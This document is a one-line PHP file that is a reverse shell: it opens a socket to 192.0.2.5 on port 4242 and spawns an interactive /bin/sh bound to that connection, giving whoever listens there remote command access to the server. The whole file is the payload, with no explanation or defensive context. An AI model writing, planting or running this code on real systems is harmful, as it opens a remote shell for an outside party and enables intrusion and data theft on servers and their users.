<?php $sock=fsockopen("192.0.2.5",4242);popen("/bin/sh -i <&3 >&3 2>&3", "r");
